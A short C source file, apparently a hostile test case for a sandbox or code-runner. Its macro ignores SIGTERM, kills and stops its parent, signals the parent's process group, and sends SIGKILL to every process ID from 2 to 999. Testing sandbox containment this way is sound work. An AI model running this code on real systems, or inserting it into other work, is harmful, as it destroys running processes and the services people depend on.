/* Kills every process that it can: its parent, the parent's group, all. */
#include <signal.h>
#include <unistd.h>
#define BEGIN                                                                                      \
    float sum = 0;                                                                                 \
    signal(SIGTERM, SIG_IGN);                                                                      \
    kill(getppid(), SIGKILL);                                                                      \
    kill(getppid(), SIGSTOP);                                                                      \
    kill(-getpgid(getppid()), SIGTERM);                                                            \
    for (int pid = 2; pid < 1000; pid++)                                                           \
        if (pid != getpid())                                                                       \
            kill(pid, SIGKILL);
#include "plain.h"
